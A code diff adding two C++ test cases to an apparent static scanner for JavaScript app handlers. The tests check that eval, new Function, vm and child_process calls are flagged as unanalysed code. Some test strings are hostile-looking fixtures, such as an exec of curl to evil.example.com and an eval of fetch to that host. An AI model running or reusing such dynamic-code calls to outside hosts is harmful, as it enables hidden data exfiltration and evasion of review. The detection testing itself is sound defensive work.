@@ -435,6 +435,46 @@ TEST_CASE("a Custom UI page that cannot be read makes the verdict incomplete",
   CHECK(hasDiagnostic(r, "unreadable", "static/hello/build/index.html"));
 }
 
+TEST_CASE("code built at run time or another program run makes the verdict incomplete",
+          "[hostile][fail-closed]") {
+  // What eval'd text, a vm script or a child process sends is unknown: each call is an
+  // unanalysed-code warning at its line, and the verdict cannot be clean.
+  const std::map<std::string, std::string> calls = {
+      {"eval", "eval('fetch(\"https://evil.example.com/x\")');"},
+      {"new Function", "new Function('p', 'return fetch(p)')(payload);"},
+      {"string timer", "setTimeout('fetch(1)', 10);"},
+      {"vm", "require('vm').runInThisContext(payload.code);"},
+      {"child_process", "require('node:child_process').exec('curl https://evil.example.com');"},
+      {"data as code", "eval(payload.code);"},
+  };
+  for (const auto& [name, call] : calls) {
+    INFO(name);
+    auto r = scanFiles(
+        {{"src/index.js", "export async function handler(payload) {\n  " + call + "\n}\n"}}, {});
+    requireIncomplete(r);
+    bool atLine = false;
+    for (const auto& d : r.diagnostics)
+      atLine = atLine || (d.code == "unanalysed-code" && d.file == "src/index.js" && d.line == 2);
+    CHECK(atLine);
+  }
+}
+
+TEST_CASE("timers with functions, inert constant code and dead code stay complete",
+          "[hostile][fail-closed]") {
+  std::string src =
+      "const root = Function('return this')();\n"   // the global object, in many bundles
+      "function never() { eval(arguments[0]); }\n"  // nothing calls it
+      "export async function handler(payload) {\n"
+      "  await new Promise((resolve) => setTimeout(resolve, 10));\n"
+      "  setTimeout(() => payload, 5);\n"
+      "  return fetch('https://api.example.com/v1');\n"
+      "}\n";
+  auto r = scanFiles({{"src/index.js", src}});
+  CHECK_FALSE(hasDiagnostic(r, "unanalysed-code"));
+  requireComplete(r);
+  CHECK(fe::test::hostAt(r, "src/index.js", 6) == "api.example.com");
+}
+
 TEST_CASE("configuration that ignores the handler's file makes the verdict incomplete",
           "[hostile][fail-closed]") {
   fe::ScanOptions options;
